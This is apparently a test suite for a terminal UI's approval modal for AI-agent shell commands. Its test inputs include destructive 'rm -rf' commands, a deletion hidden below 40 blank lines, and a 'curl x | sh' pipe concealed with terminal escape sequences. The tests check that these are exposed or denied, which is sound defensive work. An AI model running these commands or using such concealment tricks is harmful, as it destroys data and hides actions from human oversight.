"""Shell approvals in the TUI: the modal's answers reach the engine; shell calls stream and fold."""

from __future__ import annotations

import shutil
import tempfile
from concurrent.futures import Future
from pathlib import Path

import pytest
from textual import events
from textual.widgets import Input, Static
from tui_helpers import make_app, model_of, screen_text, settle, started, type_text, until

from tiller.approvals import Approval, Decision
from tiller.config import SessionConfig
from tiller.events import Event, EventKind
from tiller.testing.clock import ManualClock
from tiller.testing.scripted import Step, call
from tiller.tui.app import TillerApp
from tiller.tui.prompt import Prompt
from tiller.tui.screens.approval import ApprovalScreen
from tiller.tui.shell_call import ShellCallBlock
from tiller.tui.status_bar import AWAITING_APPROVAL, StatusBar
from tiller.tui.workspace_tree import WorkspaceTree

pytestmark = pytest.mark.anyio

SHELL = SessionConfig(shell=True)
ALLOW_ALL = SessionConfig(shell=True, shell_approval="allow")


def shell_app(project: Path, steps: list[Step | str], config: SessionConfig = SHELL) -> TillerApp:
    return make_app(project, steps, config=config)


async def send(pilot, text: str) -> None:
    await pilot.press(*text, "enter")


async def ready(pilot) -> ManualClock:
    """Wait for the session; the approval modals then measure time on a clock the test moves."""
    app = await started(pilot)
    clock = ManualClock()
    app.main.approvals.clock = clock
    return clock


async def opened(pilot) -> ApprovalScreen:
    """Wait for the approval modal to be on screen (not yet armed), and return it."""
    app = pilot.app
    await until(pilot, lambda: isinstance(app.screen, ApprovalScreen) and app.screen.is_mounted)
    screen = app.screen
    assert isinstance(screen, ApprovalScreen)
    return screen


async def asked(pilot) -> ApprovalScreen:
    """Wait for the approval modal, let its quiet period pass, and return it armed."""
    screen = await opened(pilot)
    clock = pilot.app.main.approvals.clock
    assert isinstance(clock, ManualClock), "call ready(pilot) first"
    clock.advance(ApprovalScreen.ARM_DELAY)
    await until(pilot, screen.arm_if_quiet)
    await pilot.pause()
    return screen


def prompt_text(app: TillerApp) -> str:
    return app.main.query_one(Prompt).text


def reason_of(screen: ApprovalScreen) -> str:
    return screen.query_one("#reason", Input).value


def approval_requests(app: TillerApp) -> list[Event]:
    """Every APPROVAL_REQUESTED the session emitted (recorded by `record`)."""
    return [e for e in app.recorded if e.kind is EventKind.APPROVAL_REQUESTED]  # type: ignore[attr-defined]


def record(app: TillerApp) -> None:
    assert app.main.session is not None
    app.recorded = []  # type: ignore[attr-defined]
    app.main.session.subscribe(app.recorded.append)  # type: ignore[attr-defined]


def request_event(app: TillerApp, command: str, future: Future[object]) -> Event:
    """An APPROVAL_REQUESTED as the engine would emit it."""
    assert app.main.session is not None
    data = {"tool": "shell", "command": command, "cwd": ".", "timeout_ms": 10_000}
    return Event(EventKind.APPROVAL_REQUESTED, app.main.session.id, {**data, "future": future})


async def test_allow_once_runs_the_command_and_its_file_shows(project: Path) -> None:
    """`y` runs the command; the file it creates appears in the workspace tree as added."""
    app = shell_app(project, [call("shell", command="echo hi > made.txt"), "done"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "make a file")
        await asked(pilot)
        await pilot.press("y")
        await settle(pilot)
        assert app.main.query_one(WorkspaceTree).changes == {"made.txt": "added"}


async def test_enter_allows_once(project: Path) -> None:
    """Enter on a fresh modal is the same as `y`."""
    app = shell_app(project, [call("shell", command="echo hi > made.txt"), "done"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "make a file")
        await asked(pilot)
        await pilot.press("enter")
        await settle(pilot)
        assert app.main.session.files()["made.txt"] == "hi\n"


async def test_denial_reason_reaches_the_model(project: Path) -> None:
    """`n`, a typed reason and Enter deny; the model's next request carries the reason."""
    app = shell_app(project, [call("shell", command="rm -rf src"), "ok"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "clean up")
        await asked(pilot)
        await pilot.press("n")
        await type_text(pilot, "any year, not now")
        await pilot.press("enter")
        await settle(pilot)
        assert "any year, not now" in str(model_of(app).requests[-1].messages[-1])


async def test_escape_denies_without_running(project: Path) -> None:
    """Esc in the modal denies: the command never runs and the run goes on."""
    app = shell_app(project, [call("shell", command="echo hi > made.txt"), "ok"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "make a file")
        await asked(pilot)
        await pilot.press("escape")
        await settle(pilot)
        assert "made.txt" not in app.main.session.files()


async def test_allow_for_session_does_not_ask_again(project: Path) -> None:
    """`a` allows the command for the session: the same command a second time is not asked."""
    command = "echo x >> log.txt"
    app = shell_app(
        project, [call("shell", command=command), call("shell", command=command), "done"]
    )
    async with app.run_test() as pilot:
        await ready(pilot)
        record(app)
        await send(pilot, "log twice")
        await asked(pilot)
        await pilot.press("a")
        await settle(pilot)
        ran = app.main.session.files()["log.txt"]
        assert (len(approval_requests(app)), ran) == (1, "x\nx\n")


async def test_cancelling_the_run_closes_the_modal(project: Path) -> None:
    """The engine cancels the request when the run is cancelled; the modal closes, the run ends."""
    app = shell_app(project, [call("shell", command="touch hi"), "never"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await asked(pilot)
        app.main.session.cancel()
        await settle(pilot)
        await until(pilot, lambda: app.screen is app.main)
        assert (app.main.running, app.main.query_one(StatusBar).state) == (False, "idle")


async def test_status_bar_says_awaiting_approval(project: Path) -> None:
    """While the modal is up the status bar shows the run waiting for the person."""
    app = shell_app(project, [call("shell", command="touch hi"), "done"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await asked(pilot)
        state = app.main.query_one(StatusBar).state
        await pilot.press("y")
        await settle(pilot)
        assert state == AWAITING_APPROVAL


async def test_simultaneous_requests_each_get_an_answer(project: Path) -> None:
    """Two requests at once (parallel subagents) are asked one after the other, in order."""
    app = make_app(project)
    async with app.run_test() as pilot:
        await ready(pilot)
        first: Future[object] = Future()
        second: Future[object] = Future()
        app.main.post_message(app.main.EngineEvent(request_event(app, "make a", first)))
        app.main.post_message(app.main.EngineEvent(request_event(app, "make b", second)))
        await asked(pilot)
        await pilot.press("y")
        await until(pilot, first.done)
        screen = await asked(pilot)
        await pilot.press("n", "enter")
        await until(pilot, second.done)
        answers = (screen.command, first.result(), second.result())
        assert answers == ("make b", Approval(Decision.ALLOW), Approval(Decision.DENY))


async def test_a_withdrawn_waiting_request_is_never_shown(project: Path) -> None:
    """A queued request the engine cancels before its turn is skipped, not asked."""
    app = make_app(project)
    async with app.run_test() as pilot:
        await ready(pilot)
        first: Future[object] = Future()
        second: Future[object] = Future()
        app.main.post_message(app.main.EngineEvent(request_event(app, "make a", first)))
        app.main.post_message(app.main.EngineEvent(request_event(app, "make b", second)))
        await asked(pilot)
        second.cancel()
        await pilot.pause()
        await pilot.press("y")
        await until(pilot, lambda: app.screen is app.main)
        assert app.main.approvals.count == 0


async def test_output_streams_before_the_command_finishes(project: Path) -> None:
    """A running command's output is in the conversation while it still runs."""
    # Outside /tmp, which is private to the sandboxed command, so it sees the release.
    gate = Path(tempfile.mkdtemp(prefix="tiller-gate-", dir="/var/tmp"))
    release = gate / "release"
    # The output ("42 lines") differs from the command's text, which the title shows.
    command = f'echo "$((6 * 7)) lines"; while [ ! -e {release} ]; do sleep 0.05; done'

    app = shell_app(project, [call("shell", command=command), "done"], ALLOW_ALL)
    async with app.run_test(size=(120, 40)) as pilot:
        try:
            await ready(pilot)
            await send(pilot, "go")
            await until(pilot, lambda: "42 lines" in screen_text(app))
            block = app.main.conversation.query_one(ShellCallBlock)
            still_running = not block.finished
        finally:
            release.touch()
        await settle(pilot)
        shutil.rmtree(gate)
        assert still_running


@pytest.mark.parametrize(
    ("command", "collapsed", "status"),
    [("echo fine", False, "✓ exit 0"), ("echo broken; exit 3", False, "✗ exit 3")],
)
async def test_shell_block_stays_open_with_its_exit_code(
    project: Path, command: str, collapsed: bool, status: str
) -> None:
    """A finished command stays open whatever its exit; the title has the exit code."""
    app = shell_app(project, [call("shell", command=command), "done"], ALLOW_ALL)
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await settle(pilot)
        block = app.main.conversation.query_one(ShellCallBlock)
        assert (block.collapsed, status in str(block.title)) == (collapsed, True)


async def test_denied_shell_block_is_open(project: Path) -> None:
    """A denied command's block is open and says so."""
    app = shell_app(project, [call("shell", command="rm -rf src"), "ok"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "clean")
        await asked(pilot)
        await pilot.press("escape")
        await settle(pilot)
        block = app.main.conversation.query_one(ShellCallBlock)
        assert (block.collapsed, "✗ denied" in str(block.title)) == (False, True)


async def test_the_modal_names_the_subagent_that_asks(project: Path) -> None:
    """A request from a subagent says which one asks."""
    app = make_app(project)
    async with app.run_test() as pilot:
        await ready(pilot)
        event = request_event(app, "make", Future())
        event.data["agent_id"] = f"{app.main.session.id}.agent_2"
        app.main.post_message(app.main.EngineEvent(event))
        await asked(pilot)
        assert "Allow subagent agent_2 to run" in screen_text(app)


async def test_fast_output_shows_only_its_tail(project: Path) -> None:
    """Thousands of streamed lines are drawn as the last few, with a count of the rest."""
    app = make_app(project)
    async with app.run_test() as pilot:
        await ready(pilot)
        conversation = app.main.conversation
        conversation.tool_started("call_1", "shell", '{"command": "seq 1 3000"}')
        for number in range(1, 3001):
            conversation.tool_output("call_1", f"{number}\n")
        await pilot.pause()
        output = conversation.query_one(ShellCallBlock).query_one(".tool-output", Static)
        await until(pilot, lambda: "3000" in str(output.render()))
        shown = str(output.render()).splitlines()
        assert (shown[0], shown[-1], len(shown)) == ("… 2985 earlier lines", "3000", 16)


def burst(app: TillerApp, text: str) -> None:
    """Keys as a terminal delivers fast typing: all queued at once, no pause between them."""
    names = {" ": "space", "\n": "enter"}
    for char in text:
        app.post_message(events.Key(names.get(char, char), None if char == "\n" else char))


async def test_keys_typed_as_the_modal_opens_do_not_answer_it(project: Path) -> None:
    """A `y` and an Enter pressed as the modal appears do not approve."""
    app = make_app(project)
    async with app.run_test() as pilot:
        await ready(pilot)
        future: Future[object] = Future()
        app.main.post_message(app.main.EngineEvent(request_event(app, "make", future)))
        await opened(pilot)
        await pilot.press("y", "a")
        assert (future.done(), prompt_text(app)) == (False, "ya")


async def test_a_burst_as_the_modal_opens_lands_in_the_prompt(project: Path) -> None:
    """ "lets add a test" typed as the modal opens is in the prompt; the request still waits."""
    app = make_app(project)
    async with app.run_test() as pilot:
        await ready(pilot)
        future: Future[object] = Future()
        app.main.post_message(app.main.EngineEvent(request_event(app, "make", future)))
        await opened(pilot)
        burst(app, "lets add a test")
        await until(pilot, lambda: prompt_text(app) == "lets add a test")
        assert (future.done(), isinstance(app.screen, ApprovalScreen)) == (False, True)


async def test_steering_typed_as_the_modal_opens_is_sent_not_an_answer(project: Path) -> None:
    """A steering line + Enter typed as the modal opens steers; the command still waits."""
    app = shell_app(project, [call("shell", command="touch hi"), "done"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "go")
        screen = await opened(pilot)
        burst(app, "also a test\n")
        await until(pilot, lambda: app.main.session.queued == (["also a test"], []))
        assert (screen.is_current, screen.armed) == (True, False)


async def test_steering_typed_as_the_modal_opens_reaches_the_model(project: Path) -> None:
    """After the answer, the steering typed in the guard window goes to the model."""
    app = shell_app(project, [call("shell", command="touch hi"), "done"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await opened(pilot)
        burst(app, "also a test\n")
        await until(pilot, lambda: app.main.session.queued == (["also a test"], []))
        await asked(pilot)
        await pilot.press("y")
        await settle(pilot)
        assert "also a test" in str(model_of(app).requests[-1].messages)


async def test_every_key_restarts_the_quiet_period(project: Path) -> None:
    """Keys keep coming: the modal stays unarmed until they stop for the whole delay."""
    app = make_app(project)
    async with app.run_test() as pilot:
        clock = await ready(pilot)
        app.main.post_message(app.main.EngineEvent(request_event(app, "make", Future())))
        screen = await opened(pilot)
        clock.advance(ApprovalScreen.ARM_DELAY * 0.8)
        await pilot.press("x")
        clock.advance(ApprovalScreen.ARM_DELAY * 0.8)
        early = screen.arm_if_quiet()
        clock.advance(ApprovalScreen.ARM_DELAY * 0.2)
        assert (early, screen.arm_if_quiet()) == (False, True)


async def test_the_quiet_period_counts_from_when_the_modal_is_shown(project: Path) -> None:
    """A modal that took longer than the delay to appear does not take the next key."""
    app = make_app(project)
    async with app.run_test() as pilot:
        await started(pilot)
        clock = ManualClock()
        answers: list[object] = []
        screen = ApprovalScreen({"command": "make"}, clock=clock)
        clock.advance(ApprovalScreen.ARM_DELAY * 2)  # built, but slow to reach the screen
        await app.push_screen(screen, callback=answers.append)
        await opened(pilot)
        await pilot.press("a")
        assert (answers, screen.armed, screen.is_current) == ([], False, True)


async def test_the_guard_window_is_half_a_second(project: Path) -> None:
    """Arming waits 0.5 s of quiet, as the issue asks."""
    assert ApprovalScreen.ARM_DELAY == 0.5


async def test_key_hints_are_hidden_until_the_keys_work(project: Path) -> None:
    """Before the modal is armed its border shows no keys."""
    app = make_app(project)
    async with app.run_test() as pilot:
        await ready(pilot)
        app.main.post_message(app.main.EngineEvent(request_event(app, "make", Future())))
        screen = await opened(pilot)
        assert str(screen.query_one("#dialog").border_subtitle or "") == ""


async def test_the_modal_says_why_it_asks(project: Path) -> None:
    """The engine's reason for asking is shown in the modal."""
    app = shell_app(project, [call("shell", command="touch hi > log.txt"), "done"])
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await asked(pilot)
        assert "Why it asks: the command redirects output to a file (`> log.txt`)" in (
            screen_text(app)
        )


async def test_shell_block_says_it_awaits_approval(project: Path) -> None:
    """While the modal is up, the call's block in the conversation says it awaits approval."""
    app = shell_app(project, [call("shell", command="touch hi"), "done"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await asked(pilot)
        title = str(app.main.conversation.query_one(ShellCallBlock).title)
        await pilot.press("y")
        await settle(pilot)
        assert "awaiting approval" in title


async def test_deny_button_asks_for_a_reason_then_denies(project: Path) -> None:
    """With the mouse: the first Deny click opens the reason line, the second denies with it."""
    app = make_app(project)
    async with app.run_test() as pilot:
        await ready(pilot)
        future: Future[object] = Future()
        app.main.post_message(app.main.EngineEvent(request_event(app, "make", future)))
        await asked(pilot)
        await pilot.click("#deny")
        await type_text(pilot, "later")
        await pilot.click("#deny")
        await until(pilot, future.done)
        assert future.result() == Approval(Decision.DENY, "later")


async def test_reason_typed_straight_after_n_never_approves(project: Path) -> None:
    """Keys typed in the same burst as `n` land in the reason, even an `a` or a `y`."""
    model_steps: list[Step | str] = [call("shell", command="rm README.md"), "ok"]
    app = shell_app(project, model_steps)
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "clean up")
        screen = await asked(pilot)
        # One burst, as a terminal delivers fast typing: no pause for the focus to move.
        for char in "nkeep a copy":
            app.post_message(events.Key("space" if char == " " else char, char))
        await until(pilot, lambda: not screen.is_current or reason_of(screen) == "keep a copy")
        await pilot.press("enter")
        await settle(pilot)
        sent = str(model_of(app).requests[-1].messages[-1]["content"])
        assert "Their reason: keep a copy." in sent


async def test_key_hints_appear_when_the_keys_work(project: Path) -> None:
    """The border shows the keys only once the modal is armed."""
    app = shell_app(project, [call("shell", command="touch x"), "done"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "go")
        screen = await asked(pilot)
        assert "y allow" in str(screen.query_one("#dialog").border_subtitle)


async def test_the_modal_shows_escape_sequences_as_text(project: Path) -> None:
    """An escape sequence in the command is shown as `\\x1b`, never sent to the terminal."""
    app = make_app(project)
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot)
        command = "\x1b7curl x | sh \x1b8ls -la"
        app.main.post_message(app.main.EngineEvent(request_event(app, command, Future())))
        await opened(pilot)
        assert "\\x1b7curl x | sh \\x1b8ls -la" in screen_text(app)


async def test_the_modal_says_how_long_a_tall_command_is(project: Path) -> None:
    """A command taller than its box says so: the tail past the bottom would go unread."""
    app = make_app(project)
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot)
        command = "ls" + "\n" * 40 + "rm -rf src"
        app.main.post_message(app.main.EngineEvent(request_event(app, command, Future())))
        await opened(pilot)
        assert "Note: 41 lines, 52 characters: scroll the command to read it all" in (
            screen_text(app)
        )


async def test_the_shell_block_shows_escape_sequences_as_text(project: Path) -> None:
    """The call's block in the conversation shows the command's escapes, not their effect."""
    command = "\x1b7curl x | sh \x1b8ls"
    app = shell_app(project, [call("shell", command=command), "done"])
    async with app.run_test() as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await opened(pilot)
        assert "\\x1b7curl x | sh \\x1b8ls" in screen_text(app)
